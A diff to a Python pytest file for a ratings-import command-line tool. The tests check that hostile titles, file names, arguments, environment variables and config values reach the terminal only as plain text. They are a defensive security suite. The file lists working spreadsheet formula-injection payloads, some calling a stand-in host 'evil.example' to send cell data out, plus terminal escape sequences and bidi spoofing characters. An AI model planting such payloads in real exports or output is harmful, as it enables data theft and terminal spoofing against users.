@@ -3,29 +3,31 @@
 from __future__ import annotations
 
 import csv
-import fcntl
 import io
 import json
-import os
-import pty
 import re
-import struct
-import subprocess
 import sys
-import termios
-from collections.abc import Iterator, Sequence
+import zipfile
+from collections.abc import Callable, Iterator, Sequence
 from pathlib import Path
+from typing import NamedTuple
 
+import click
 import ironcalc
 import pyte
 import pytest
 
-from importer.sandbox.app import SandboxSettings, create_app
+from importer.cli import cli
+from importer.sandbox.app import Fault, SandboxSettings, backstage_of, create_app
+from importer.sandbox.backstage import Backstage
+from importer.sandbox.faults import FaultKind
 from importer.sandbox.serving import serve
+from importer.vocabulary.sends import Section
 from tests.browsing import Watched, browser, watched
 from tests.clock import FakeClock
 from tests.commanding import run
 from tests.sandbox.calling import NOW
+from tests.terminals import Screen, Terminals, terminals
 
 __all__ = ["browser", "watched"]
 
@@ -52,6 +54,13 @@ FORMULAS = [
     '";=1+1',
     '"=1+1',
     "Alien,=1+1",
+    'Alien;"=1+1&";x',
+    "Alien\n=1+1;x",
+    "Alien\r=1+1;x",
+    'Alien,"\r\n=1+1;x',
+    "Alien\t=1+1",
+    "Alien\t=1+1;x",
+    "Alien;-1+1",
     "\u00a0=1+1",
     '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
     '=WEBSERVICE("https://evil.example")',
@@ -121,52 +130,37 @@ ESCAPES = [
     "\x1b[?25l hidden",
     "\x1b[6n report",
     "\x1bP+q544e\x1b\\",
+    "\x1b_command\x1b\\",
     "\x1b(0 lines",
     "\x9b31m c1",
     "\x9d0;owned\x9c",
     "\x08\x08\x08 back",
     "\x0e shift",
     "\x07 bell",
+    "\x7f delete",
+    "\x85next line",
     "\u202egnp.exe",
     "\u2066isolated\u2069",
+    "\u061cmark",
+    "\u200emark",
     "\u200fmark",
     "\u2028line",
+    "\u2029paragraph",
     "a\rb",
     "[red]markup[/red]",
     "[/x]",
     "[link=https://evil.example]x[/link]",
 ]
-TAME = [f"Film {number}" for number in range(len(ESCAPES))]
-BIDI = re.compile("[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
+TITLES = [f"Marked {' '.join(ESCAPES[place::6])}" for place in range(6)]
+"""Between them all escapes, few enough titles to be named wherever some are."""
+ACCOUNT = "Marked \nForged " + " ".join(ESCAPES)
+NAME = "Marked \x1b]0;owned\x07\u202e\u2029[red]\x85\x7f\udcff\x1b[31m\nForged"
+STEERING = re.compile(
+    "[\x00-\x09\x0b\x0c\x0e-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\ud800-\udfff]"
+)
+OUR_COLOURS = re.compile(r"\x1b\[(?:0|1|2|36|1;36)?m")
 _TEXT_ONLY = {"draw", "linefeed", "carriage_return", "tab"}
-
-
-def on_terminal(arguments: Sequence[str], folder: Path) -> tuple[int, bytes]:
-    """`rateport ARGUMENTS` with a terminal of 100 by 50 for all its streams: exit code and every byte it wrote."""
-    ours, theirs = pty.openpty()
-    fcntl.ioctl(theirs, termios.TIOCSWINSZ, struct.pack("HHHH", 50, 100, 0, 0))
-    kept = {
-        name: value for name, value in os.environ.items() if not name.startswith(("RATEPORT_", "COLUMNS", "NO_"))
-    }
-    process = subprocess.Popen(
-        [sys.executable, "-m", "importer", *arguments],
-        stdin=theirs,
-        stdout=theirs,
-        stderr=theirs,
-        cwd=folder,
-        env={**kept, "RATEPORT_HOME": str(folder / "home"), "TERM": "xterm-256color"},
-    )
-    os.close(theirs)
-    written = b"".join(iter(lambda: _read(ours), b""))
-    os.close(ours)
-    return process.wait(timeout=60), written
-
-
-def _read(descriptor: int) -> bytes:
-    try:
-        return os.read(descriptor, 65536)
-    except OSError:  # how Linux says that the other side is closed
-        return b""
+posix_only = pytest.mark.skipif(sys.platform == "win32", reason="terminals differ")
 
 
 def events(written: bytes) -> Iterator[tuple[str, str]]:
@@ -178,59 +172,225 @@ def events(written: bytes) -> Iterator[tuple[str, str]]:
         yield name, json.dumps(arguments)
 
 
-def commands(file: str) -> list[list[str]]:
-    """Every command that prints what a file holds, in an order in which each has something to say."""
-    return [
-        ["identify", file],
-        ["preview", file],
-        ["preview", file, "--json"],
-        ["import", file, "--sandbox", "--yes", "-o", "report"],
-        ["import", file, "--sandbox", "--yes", "--json"],
-        ["runs", "--sandbox"],
-        ["show", "--sandbox"],
-        ["ratings", "--sandbox"],
-        ["verify", "--sandbox"],
-        ["sources", "imdb"],
-        ["sources", file],
-        ["identify", f"{file}-not-there"],
-    ]
-
-
-def doings(folder: Path, name: str, titles: Sequence[str]) -> list[tuple[list[str], set[tuple[str, str]], str]]:
-    """For every command, what the terminal does beside showing text, and the text."""
-    folder.mkdir()
-    path = hostile_table(folder / name, titles)
-    text = path.read_text(encoding="utf-8")  # rows that disagree are told by title
-    path.write_text(
-        text
-        + "".join(f'"{title}",1999,movie,3,2019-01-02,tt{number:07}\n' for number, title in enumerate(titles, 1))
-    )
-    found = []
-    for command in commands(name):
-        _, written = on_terminal(command, folder)
-        steps = list(events(written))
-        shown = "".join(json.loads(arguments)[0] for step, arguments in steps if step == "draw")
-        found.append((command, {step for step in steps if step[0] not in _TEXT_ONLY}, shown))
-    return found
-
-
-@pytest.mark.timeout(240)
-def test_no_command_lets_an_export_steer_the_terminal(tmp_path: Path) -> None:
-    """A hostile file and a tame one make it do the same things: no title, jump or colour comes from data."""
-    tame = doings(tmp_path / "tame", "ratings.csv", TAME)
-    hostile = doings(tmp_path / "hostile", "\x1b]0;owned\x07\u202e[red].csv", ESCAPES)
-    assert any("Film 3" in shown for _, _, shown in tame)
-    allowed = set().union(*(steps for _, steps, _ in tame))
-    for command, steps, shown in hostile:
-        assert steps <= allowed, f"{command}: {steps - allowed}"
-        assert not {name for name, _ in steps} & {"set_title", "set_icon_name", "bell", "backspace", "reset"}
-        assert not BIDI.search(shown), f"{command}: {shown!r}"
+def looked_at(screen: Screen) -> str:
+    """The text that a terminal shows of a command, which may steer it by no more than the colours of ours."""
+    steps = [(name, json.loads(arguments)) for name, arguments in events(screen.written)]
+    assert {name for name, _ in steps} <= {*_TEXT_ONLY, "select_graphic_rendition"}, screen.written
+    assert not STEERING.search(OUR_COLOURS.sub("", screen.written.decode())), screen.written
+    shown = "".join(arguments[0] if name == "draw" else "\n" * (name == "linefeed") for name, arguments in steps)
+    assert "\nForged" not in shown, shown  # the break in a name begins no line
+    assert "Traceback" not in shown, shown
+    return shown
 
 
 def test_the_terminal_would_do_what_is_not_defused() -> None:
-    """The proof can fail: as they are, most of these do something."""
+    """The proof can fail: as they are, most of these do something, and the others are seen."""
     acting = [text for text in ESCAPES if {name for name, _ in events(text.encode())} - _TEXT_ONLY]
-    assert len(acting) >= 14
+    assert len(acting) >= 15
+    for text in [*ESCAPES, "x\nForged"]:
+        if "[/" not in text and "\r" not in text:
+            with pytest.raises(AssertionError):
+                looked_at(Screen(0, text.encode()))
+
+
+def hostile_exports(folder: Path) -> None:
+    """Files whose names and titles are hostile: a table whose rows disagree and of which some are left over, a
+    title with half a character, a text that cannot be read, and an archive of all that."""
+    hostile_table(folder / f"{NAME}.csv", TITLES)
+    with (folder / f"{NAME}.csv").open("a", encoding="utf-8", newline="") as stream:
+        for number, title in enumerate(TITLES, start=1):
+            csv.writer(stream).writerow((title, "1999", "movie", "3", "2019-01-02", f"tt{number:07}"))
+            csv.writer(stream).writerow((title, "2001", "movie", "4", "2019-01-02", f"tt1{number:06}"))
+    broken = [
+        {"title": "Marked \ud83d\x1b[31m\nForged", "year": 2001, "rating": 7, "type": "movie", "imdb": "tt0000300"}
+    ]
+    (folder / f"{NAME}.json").write_text(json.dumps(broken), encoding="ascii")
+    (folder / f"{NAME}.xml").write_bytes(b"\x81\x81" + TITLES[0].encode("cp1252", "replace"))
+    with zipfile.ZipFile(folder / f"{NAME}.zip", "w") as archive:
+        for suffix in ("csv", "json", "xml"):
+            archive.writestr(
+                f"{NAME.replace(chr(0xDCFF), '')}.{suffix}", (folder / f"{NAME}.{suffix}").read_bytes()
+            )
+
+
+def hostile_account(stage: Backstage) -> None:
+    """The same titles, rated otherwise, or planned, which rating them ends."""
+    for number, title in enumerate(TITLES, start=1):
+        item = {"ids": {"imdb": f"tt{number:07}"}, "title": title, "year": 1999}
+        if number % 2:
+            stage.put(Section.MOVIES, {**item, "rating": 2, "rated_at": "2015-01-02T12:00:00Z"})
+        else:
+            stage.put(Section.MOVIES, item, status="plantowatch")
+
+
+def refused(stage: Backstage) -> None:
+    """The next POST of ratings is turned down, with a hostile word for it."""
+    stage.faults.add(Fault(kind=FaultKind.STATUS, status=403, error=TITLES[0]))
+
+
+def rated_by_another(stage: Backstage) -> None:
+    """Somebody changes a rating at Simkl."""
+    stage.put(Section.MOVIES, {"ids": {"imdb": "tt0000001"}, "rating": 1})
+
+
+class Step(NamedTuple):
+    """A command in which X stands for the hostile name, what its screen shows, its exit code, what is typed, and
+    what befalls the service before it."""
+
+    line: str
+    shows: str = "Marked"
+    code: int = 0
+    typed: str = ""
+    before: Callable[[Backstage], None] = lambda stage: None
+
+    @property
+    def words(self) -> list[str]:
+        """The words of the command line."""
+        return [word.replace("X", NAME) for word in self.line.split()]
+
+
+JOURNEY = [
+    Step("login", "Signed in as Marked"),
+    Step("whoami"),
+    Step("identify X.csv X.json X.xml X.zip", "neither UTF-8 nor", 3),
+    Step("preview X.csv X.json X.zip", "Passed over", 1),
+    Step("preview X.csv X.json -o X", "Rows disagree", 1),
+    Step("preview X.csv --json -o X", '"pending"', 1),
+    Step("preview X.csv --account", "becomes 8", 1),
+    Step("preview X.csv --account --json", '"pending"', 1),
+    Step("import X.csv X.json -o X", "[y/N]", 75, "n\n"),
+    Step("import X.csv X.json -o X", "403", 5, "y\n", before=refused),
+    Step("resume -o X", "13 confirmed", 1, "y\n"),
+    Step("import X.csv -o X2 --yes --json", '"unchanged"', 1),
+    Step("runs", "13 confirmed"),
+    Step("runs --json"),
+    Step("show 1", "Moved to another list"),
+    Step("show 1 --json"),
+    Step("verify 1", "sent was 8", 1, before=rated_by_another),
+    Step("verify 1 --json", code=1),
+    Step("ratings"),
+    Step("ratings --json"),
+    Step("backup -o X-backup.json"),
+    Step("backup -o X-backup.json", "is there already", 2),
+    Step("backup -o X-backup2.json --json"),
+    Step("lookup imdb:tt0000001 imdb:tt9999990", code=1),
+    Step("lookup imdb:tt0000001 --json"),
+    Step("undo 1 --dry-run", "changed since", 1),
+    Step("undo 1 --dry-run --json", code=1),
+    Step("undo 1", "[y/N]", 75, "n\n"),
+    Step("undo 1", "Undone", 1, "y\n"),
+    Step("import X.json -o X3 --yes --json", "403", 5, before=refused),
+    Step("resume -o X3 --yes --json", '"confirmed": 1'),
+    Step("remove X.json -o X4", "[y/N]", 75, "n\n"),
+    Step("remove X.json -o X4", "Ratings to remove", typed="y\n"),
+    Step("remove X.csv --yes --json -o X5", '"unchanged"', 1),
+    Step("undo 1 --yes --json", code=1),
+    Step("sources imdb", "IMDb"),
+    Step("sources X", "There is no source", 2),
+    Step("demo -o X.csv", "is a file", 2),
+    Step("sandbox --port X", "is not a valid integer", 2),
+    Step("logout", "Signed out"),
+]
+
+
+@pytest.fixture(scope="module")
+def opened() -> Iterator[Terminals]:
+    """Terminals for all tests here."""
+    with terminals() as opened:
+        yield opened
+
+
+@posix_only
+@pytest.mark.timeout(240)
+def test_no_command_lets_data_steer_the_terminal(opened: Terminals, tmp_path: Path) -> None:
+    """Every command there is shows hostile titles and names as text, and can be answered where it asks."""
+    hostile_exports(tmp_path)
+    app = create_app(
+        SandboxSettings(
+            user_name=ACCOUNT,
+            account_type=TITLES[0],
+            auto_approve=True,
+            poll_interval_s=1,
+            plan_to_watch_becomes_completed=True,
+        )
+    )
+    hostile_account(backstage_of(app))
+    with serve(app) as server:
+        variables = {"RATEPORT_API_URL": server.url, "RATEPORT_CLIENT_ID": "an-app"}
+        for step in JOURNEY:
+            step.before(backstage_of(app))
+            screen = opened.run(tmp_path, *step.words, typed=step.typed, variables=variables)
+            shown = looked_at(screen)
+            assert screen.exit_code == step.code, f"{step.line}: {shown}"
+            assert step.shows in shown, f"{step.line}: {shown}"
+    assert {step.words[0] for step in JOURNEY} == set(cli.commands)
+
+
+NEEDED = {"files": f"{NAME}.csv", "ids": "imdb:tt0000001", "run": "1"}
+
+
+def misused() -> Iterator[list[str]]:
+    """Command lines with the hostile name in every place: for each argument of each command, for every option that
+    takes a word, as an option and as a command."""
+    options: dict[tuple[str, str | None], list[str]] = {}
+    for name, command in cli.commands.items():
+        arguments = [param for param in command.params if isinstance(param, click.Argument)]
+        needed = [NEEDED[param.name or ""] for param in arguments if param.required]
+        start = [name, "--sandbox"] if any(param.name == "in_sandbox" for param in command.params) else [name]
+        yield [*start, NAME]
+        yield [*start, *needed, NAME]
+        yield [*start, f"--{NAME}"]
+        for param in command.params:
+            if isinstance(param, click.Option) and not param.is_flag:
+                options.setdefault((param.opts[0], param.name), [*start, *needed, param.opts[0], NAME])
+    yield from options.values()
+    yield [NAME]
+
+
+@posix_only
+@pytest.mark.timeout(120)
+def test_no_command_line_steers_the_terminal(opened: Terminals, tmp_path: Path) -> None:
+    """Nothing that is named wrongly is repeated as it is: files, sources, words, folders and whatever else."""
+    hostile_exports(tmp_path)
+    for words in misused():
+        assert "Marked" in looked_at(opened.run(tmp_path, *words)), words
+
+
+@posix_only
+@pytest.mark.parametrize(
+    ("setting", "command"),
+    [("HOME", "runs"), ("HOME", "sandbox"), ("API_URL", "runs"), ("CLIENT_ID", "runs"), ("ACCESS_TOKEN", "runs")],
+)
+def test_no_variable_steers_the_terminal(opened: Terminals, tmp_path: Path, setting: str, command: str) -> None:
+    """Nor is anything of the environment, among it a home that is a file."""
+    hostile_exports(tmp_path)
+    variables = {"RATEPORT_CLIENT_ID": "an-app", "RATEPORT_ACCESS_TOKEN": "token"}
+    screen = opened.run(tmp_path, command, variables={**variables, f"RATEPORT_{setting}": f"{NAME}.csv"})
+    assert screen.exit_code == 2
+    assert looked_at(screen).startswith("rateport: ")
+
+
+@posix_only
+@pytest.mark.parametrize(
+    "line",
+    [
+        '"X" = 1',
+        'prefer = "X"',
+        'on_conflict = "X"',
+        '[scales."X"]\n"1" = 1',
+        '[scales.stars-5]\n"X" = 1',
+        '[table.columns]\n"X" = "x"',
+        '[table.columns]\nrating = "X"',
+    ],
+)
+def test_no_setting_steers_the_terminal(opened: Terminals, tmp_path: Path, line: str) -> None:
+    """Nor is anything of the config."""
+    hostile_exports(tmp_path)
+    (tmp_path / "table.csv").write_text("x,y\n1,2\n", encoding="utf-8")
+    (tmp_path / "home").mkdir()
+    written = line.replace("X", json.dumps(NAME.replace("\udcff", ""))[1:-1])
+    (tmp_path / "home" / "config.toml").write_text(written, encoding="utf-8")
+    assert "Marked" in looked_at(opened.run(tmp_path, "preview", f"{NAME}.csv"))
 
 
 # --- browsers ---------------------------------------------------------------------------------------------
